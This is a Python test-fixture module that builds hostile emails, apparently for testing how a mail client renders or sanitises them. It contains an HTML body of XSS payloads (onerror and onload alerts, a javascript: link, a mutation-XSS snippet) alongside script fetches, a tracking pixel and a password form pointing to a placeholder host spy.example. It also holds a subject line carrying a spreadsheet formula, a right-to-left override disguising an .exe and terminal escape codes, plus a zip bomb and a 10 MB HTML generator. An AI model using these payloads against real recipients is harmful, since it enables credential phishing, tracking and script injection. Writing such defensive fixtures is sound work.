"""Mails somebody made to do harm to whoever looks at them."""

from __future__ import annotations

import io
import zipfile
from email.message import EmailMessage

MARKUP = """<html><head><title>x</title><base href="https://spy.example/">
<meta http-equiv="refresh" content="0;url=https://spy.example/gone">
<link rel="stylesheet" href="https://spy.example/a.css">
<style>@import url(https://spy.example/b.css); body { display: none; background: url(https://spy.example/c.png) }</style>
<script>document.title = "owned"; fetch("https://spy.example/d")</script></head>
<body onload="alert(1)" background="https://spy.example/e.png">
<p style="position:fixed;inset:0;background:url(https://spy.example/f.png)">Not just yet, please keep checking in.</p>
<img src="https://spy.example/pixel.gif" width="1" height="1"><img src=x onerror="alert(2)">
<img alt="their logo" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">
<a href="javascript:alert(3)">a link</a> <a href="https://spy.example/g" ping="https://spy.example/h">another</a>
<form action="https://spy.example/i"><input name="password"><button>Sign in</button></form>
<iframe src="https://spy.example/j"></iframe><object data="https://spy.example/k"></object>
<svg onload="alert(4)"><script>alert(5)</script><image href="https://spy.example/l"/></svg>
<math><mtext><style><img src=x onerror=alert(6)></style></mtext></math>
<video poster="https://spy.example/m" src="https://spy.example/n"></video>
</body></html>"""
SUBJECT = "=HYPERLINK(1) \u202egnp.exe \x1b[31m\x07<b>bold</b>"


def mail(number: int, subtype: str = "html", text: str = MARKUP) -> EmailMessage:
    """A mail of that text, from Kim to Ana."""
    message = EmailMessage()
    message["From"] = "Kim <kim@acme.example>"
    message["To"] = "ana@lantern.example"
    message["Date"] = f"{number % 9 + 1} Nov 2026 09:00:00 +0000"
    message["Subject"] = " ".join(SUBJECT.replace("\x07", "").replace("\x1b", "").split())
    message["Message-ID"] = f"<h{number}@acme.example>"
    message.set_content(text, subtype=subtype)
    return message


def bomb() -> EmailMessage:
    """A mail with a small archive that unpacks to two hundred megabytes."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("quote.txt", bytes(200_000_000))
    message = mail(90, "plain", "Not just yet, please keep checking in. The archive says why.")
    message.add_attachment(packed.getvalue(), maintype="application", subtype="zip", filename="quote.zip")
    return message


def huge() -> EmailMessage:
    """Ten megabytes of HTML."""
    return mail(
        91, text=f"<p>Not just yet, please keep checking in.</p>{'<div>' * 20_000}{'<b>more</b> ' * 900_000}"
    )
